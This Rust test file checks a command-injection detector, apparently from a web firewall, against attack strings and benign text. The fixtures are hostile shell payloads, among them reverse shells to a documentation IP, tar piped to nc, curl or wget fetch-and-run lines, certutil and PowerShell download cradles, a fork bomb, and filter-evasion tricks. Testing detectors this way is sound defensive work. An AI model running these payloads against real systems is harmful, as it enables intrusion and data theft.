use super::DETECTOR;
use crate::detect::Detector;
use crate::{Place, Score, Text};
use proptest::prelude::*;

/// Best score that a detector gives, behind its needles as the driver has it.
pub(in crate::detect) fn best(detector: &Detector, place: Place, name: &str, value: &[u8]) -> u8 {
    let lower = value.to_ascii_lowercase();
    let text = Text {
        place,
        name: name.as_bytes(),
        bytes: value,
        lower: &lower,
    };
    let mut hits = Vec::new();
    let wanted = detector
        .needles
        .iter()
        .any(|n| memchr::memmem::find(&lower, n).is_some());
    if wanted {
        (detector.detect)(&text, &mut hits);
    }
    for hit in &hits {
        assert!(
            hit.span.start <= hit.span.end && hit.span.end <= value.len(),
            "{hit:?}"
        );
    }
    hits.iter().map(|h| h.score.0).max().unwrap_or(0)
}

/// Japanese text whose bytes look like operators, quotes or separators: UTF-8, Shift_JIS, EUC-JP.
pub(in crate::detect) const JAPANESE: &[&[u8]] = &[
    "予算；執行｜状況".as_bytes(),
    "ｼｽﾃﾑ管理、検索；時間".as_bytes(),
    b"\x95\x5c\x81E\x94\x5c\x97\xcd\x83\x5c\x81[\x83X;\x88\xea\x97\x97",
    b"\xc9\xbd\xa1\xa6\xc7\xbd\xce\xcf\xa5\xbd\xa1\xbc\xa5\xb9;\xb0\xec\xcd\xf7",
    b"\x83|\x83\x93\x83v|\x83\x5c\x81[\x83g&\x8c\x9f\x8d\xf5",
    b"\x83|id",
    b"\xa5\xdd\xa5\xf3\xa5\xd7|\xa5\xbd\xa1\xbc\xa5\xc8&\xb8\xa1\xba\xf7",
    b"\x97\x5c\x92\xe8\x5c\x95\x5c",
    b"\xcd\xbd\xc4\xea\x5c\xc9\xbd",
    b"\xc0\xae\x90\xac\x90\xac/\x83V\x83X\x83e\x83\x80",
    b"\x8e\xc0\x8e\xae\xc0\xae\xc0\xae/\xa5\xb7\xa5\xb9\xa5\xc6\xa5\xe0",
    b"\x8e{\x90\xdd\x88\xc4\x93\xe0\x81i\x91\xe6\x82Q\x92\xa1\x8e\xc9\x81j\x81z\x81`",
];

fn value(text: &str) -> u8 {
    best(&DETECTOR, Place::ArgValue, "q", text.as_bytes())
}

#[track_caller]
fn finds(values: &[&str]) {
    for text in values {
        assert!(value(text) >= Score::BREAK_OUT.0, "not found: {text}");
    }
}

#[track_caller]
fn spares(values: &[&str]) {
    for text in values {
        assert!(value(text) < Score::BREAK_OUT.0, "found: {text}");
    }
}

#[test]
fn finds_commands_behind_operators() {
    finds(&[
        "192.0.2.1; ls -la",
        "x; at 15:30 -f job",
        "--open-files-in-pager=touch a",
        "192.0.2.1 && whoami",
        "192.0.2.1|whoami",
        "x || ping -c 10 192.0.2.1",
        "x & ping -n 10 192.0.2.1 &",
        "\";sleep 5;\"",
        "x\ncat /etc/passwd",
        "x\\nid\\n",
        ";id;",
        "|id",
        ";{ls,-la}",
        "x;chmod +x y;./y",
        "x; tar -czf - /srv | nc 192.0.2.1 80",
        ";curl http://example.com/x|sh",
    ]);
}

#[test]
fn finds_substitutions() {
    finds(&[
        "$(id)",
        "`id`",
        "x$(sleep 5)",
        "a`nslookup b.example.com`",
        "$(</etc/hostname)",
        "<(cat /etc/hosts)",
    ]);
}

#[test]
fn finds_whole_command_lines() {
    finds(&[
        "cat /etc/hosts",
        "ping -c 3 192.0.2.1",
        "powershell -enc SQBFAFgA",
        "cmd /c dir",
        "/usr/bin/id",
        "nc -e /bin/sh 192.0.2.1 4444",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "python3 -c 'import os'",
        "cd /tmp; wget http://192.0.2.1/a; sh a",
        r"C:\Windows\System32\cmd.exe /c dir",
        "() { :;}; echo hello",
        ":(){ :|:& };:",
    ]);
}

#[test]
fn finds_names_in_disguise() {
    finds(&[
        "x;w'h'o'am'i",
        "x;wh\\oami",
        "x;who$@ami",
        "x;cat${IFS}/etc/hosts",
        "x;cat$IFS$9/etc/hosts",
        "/???/c?t /???/h?sts",
        "x;/bin/c[a]t /etc/hosts",
        "x&&w^h^o^a^m^i",
        "a=nc&&$a -lvp 4444",
        "x;$a$b /etc/hosts",
        "${PATH:0:1}etc",
        "%PROGRAMFILES:~10,1%ping",
        "c{a,ode}t",
    ]);
}

#[test]
fn finds_forms_of_windows() {
    finds(&[
        "for /f %i in ('dir') do echo %i",
        "& for %%x in (a b) do del %%x",
        r"if exist C:\x.txt del C:\x.txt",
        "if \"%1\"==\"\" echo x",
        "x & net user guest /active:yes",
        "| certutil -urlcache -f http://192.0.2.1/a a",
        "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/')",
    ]);
}

#[test]
fn commands_need_a_name_of_an_argument_or_a_shape() {
    assert!(best(&DETECTOR, Place::ArgValue, "cmd", b"whoami") >= Score::BREAK_OUT.0);
    assert!(best(&DETECTOR, Place::ArgValue, "q", b"whoami") < Score::BREAK_OUT.0);
}

#[test]
fn spares_prose_and_names() {
    spares(&[
        "cats; dogs & birds | more",
        "time is up; date to be decided",
        "find the file; sort by date",
        "select a seat from the list; it's free -- really",
        "AT&T; who knows",
        "R&D",
        "Q&A | sort",
        "Johnson & Johnson",
        "O'Brien; who else?",
        "The end; make it so.",
        "lunch at 12; at 2:00 tea",
        "if you want; then go",
        "if exist, then fine",
        "for me and you",
        "Run `ls -la` to list the files",
        "what does `cat` do?",
        "first line\nfind it here\nsort of",
        "curl and divergence",
        "wget tutorial",
        "docker compose; kubernetes",
    ]);
}

#[test]
fn spares_data_and_code() {
    spares(&[
        "a=1;b=2",
        "name;id;date",
        "size:L|color:red",
        r#"{"id":1,"cat":"dog","find":[1,2]}"#,
        "Error: no answer\n    at load (https://www.example.com/a.js:1:20)\n    at https://www.example.com/b.js:3:4",
        "query Notes($id: ID!, $after: String) { notes(id: $id) { text } }",
        "SCRIPT load fail: https://www.example.com/a.js",
        "body { margin: 0 } .sort { display: none; cut: 1 }",
        "$(document).ready(function(){ go(); })",
        "function f() { return a || b; }",
        "for (i = 0; i < 10; i++) { print(i); }",
        "<b>find</b>; <i>sort</i>",
        "&lt;find&gt; &amp; sort",
        "http://example.com/?a=1&id=2;time=3",
        r"C:\Users\taro\Documents\report.docx",
        "taro@example.com; hanako@example.com",
        "path/to/bin/file",
        "20% off; 100% sure",
        "/web/item/title,pos;/web/item/date",
    ]);
    for agent in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Media Center PC 5.0)",
        "curl/8.1.2",
        "Wget/1.21",
        "LiveJournal.com (webmaster@example.com; for http://example.com/users/x/; 1 readers)",
    ] {
        assert!(
            best(&DETECTOR, Place::Agent, "user-agent", agent.as_bytes()) < Score::BREAK_OUT.0,
            "{agent}"
        );
    }
}

#[test]
fn spares_japanese_in_every_encoding() {
    for text in JAPANESE {
        assert!(
            best(&DETECTOR, Place::ArgValue, "q", text) < Score::BREAK_OUT.0,
            "{}",
            text.escape_ascii()
        );
    }
}

#[test]
fn word_lists_hold_each_command_once_and_in_lower_case() {
    for list in [
        include_str!("unix.txt"),
        include_str!("windows.txt"),
        include_str!("powershell.txt"),
    ] {
        let words = list
            .lines()
            .filter(|l| !l.starts_with('#'))
            .flat_map(str::split_whitespace);
        for word in words {
            assert_eq!(word, word.to_ascii_lowercase());
            assert!(word.len() <= super::commands::NAME_LEN_MAX);
        }
    }
}

/// Texts of the greatest length that make the detector look again and again.
pub(in crate::detect) fn hostile() -> Vec<Vec<u8>> {
    [
        "`", "$(", "\n", ";'", "{", "()", "${", "$a", "/?", "/[", "../", "..;/", ".", "%a:~",
        "if ", "for ", "&&", "\\n", "\0", "\u{560a}", "/.", "bin/", "a001 ", "etc/", "\"\"",
        "|sh ", ".cookie", "..%c", "[\n",
    ]
    .iter()
    .map(|unit| unit.bytes().cycle().take(Text::LEN_BYTES_MAX).collect())
    .collect()
}

#[test]
fn hostile_texts_end_soon() {
    for text in hostile() {
        best(&DETECTOR, Place::ArgValue, "q", &text);
    }
}

/// Pieces of attacks of every kind.
const PIECES: &[&[u8]] = &[
    b"$(",
    b"`",
    b";",
    b"|",
    b"cat",
    b" ",
    b"${IFS}",
    b"'",
    b"\\",
    b"/",
    b"..",
    b"\xc0\xae",
    b"%",
    b"\0",
    b"for %a in (",
    b"if not ",
    b"\r\n",
    b"GET / HTTP/1.1",
    b"set-cookie:",
    b"{",
    b"}",
    b",",
    b"?",
    b"[",
    b"]",
    b"~1",
    b"0x2e",
    b":",
    b"etc/passwd",
    b"==",
    b"document.cookie",
    b"\x83",
    b".env",
    b".bak",
    b"$",
    b"()",
    b"\xe5\x98\x8a",
    b"^",
    b"sqlmap/1",
];

/// The pieces and other bytes, put together at random.
pub(in crate::detect) fn pieces() -> impl Strategy<Value = Vec<u8>> {
    let piece = proptest::sample::select(PIECES);
    proptest::collection::vec(
        prop_oneof![
            piece.prop_map(<[u8]>::to_vec),
            proptest::collection::vec(any::<u8>(), 0..4)
        ],
        0..24,
    )
    .prop_map(|parts| parts.concat())
}

proptest! {
    #[test]
    fn never_panics(text in pieces()) {
        best(&DETECTOR, Place::ArgValue, "cmd", &text);
        best(&DETECTOR, Place::Path, "", &text);
    }
}
